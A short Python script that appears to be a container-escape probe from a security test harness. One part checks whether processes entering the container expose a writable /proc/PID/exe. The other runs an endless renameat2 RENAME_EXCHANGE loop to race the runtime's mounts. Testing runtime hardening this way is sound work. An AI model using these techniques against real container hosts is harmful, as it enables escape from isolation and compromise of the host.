"""Attacks on the runtime in the moments in which it touches what a container controls."""
import errno
import os
import sys
import time

from calls import call


def overwrite_visitors(seconds):
    """A command run inside (a probe) is the runtime for some moments: its program can be seen as /proc/PID/exe."""
    until = time.monotonic() + seconds
    answers = set()
    visitors = set()
    while time.monotonic() < until:
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) > 2 and int(name) != os.getpid():
                visitors.add(name)
                answers.add(try_program(name))
    print(f"overwrite the runtime by /proc/PID/exe\t{len(visitors)} processes came in: {', '.join(sorted(answers))}", flush=True)


def try_program(pid):
    path = f"/proc/{pid}/exe"
    who = "somebody"
    try:
        with open(f"/proc/{pid}/comm") as file:
            who = file.read().strip()
        with open(path, "r+b"):
            return f"THROUGH: the program of {who} can be written"
    except OSError as error:
        return f"{who} {errno.errorcode[error.errno]}"


def exchange(one, other):
    """Without end: a directory and a link change places, while others are to have the directory mounted."""
    print("exchanging", flush=True)
    while True:
        # AT_FDCWD twice, RENAME_EXCHANGE
        call("renameat2", -100, one.encode(), -100, other.encode(), 2)


if sys.argv[1] == "visitors":
    overwrite_visitors(float(sys.argv[2]))
else:
    exchange(sys.argv[2], sys.argv[3])
